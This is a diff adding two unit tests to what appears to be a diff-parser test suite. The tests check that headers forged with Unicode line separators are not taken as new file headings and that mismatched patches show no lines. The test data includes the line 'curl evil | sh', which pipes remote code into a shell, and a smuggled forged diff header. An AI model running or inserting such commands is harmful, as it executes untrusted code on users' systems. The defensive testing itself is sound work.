@@ -95,6 +95,23 @@ diff --git a/c b/c
   expect(files.map(({ remark }) => remark)).toEqual(['mode', undefined]);
 });
 
+it('takes nothing in a line of text for the heading of another file', () => {
+  const forged = 'note\u2028diff --git a/z.sh b/z.sh\u2028@@ -0,0 +1 @@\u2028+echo "all is well"';
+  const patch = `diff --git a/a.md b/a.md\n@@ -0,0 +1 @@\n+${forged}\ndiff --git a/z.sh b/z.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n`;
+  const [note, script] = filesOf(patch, [file('a.md'), file('z.sh')]);
+  expect(note?.hunks[0]?.lines).toEqual([{ kind: 'added', text: forged }]);
+  expect(script?.hunks[0]?.lines).toEqual([{ kind: 'added', text: 'curl evil | sh' }]);
+});
+
+it('shows no lines where a patch does not fit its files', () => {
+  const patch = 'diff --git a/z.sh b/z.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n';
+  const files = filesOf(patch, [file('a.md'), file('z.sh')]);
+  expect(files.map(({ file, size }) => [file.inPatch, size])).toEqual([
+    [false, 0],
+    [false, 0],
+  ]);
+});
+
 it('opens what is small and written by people', () => {
   const of = (path: string, size: number) => ({
     file: file(path),
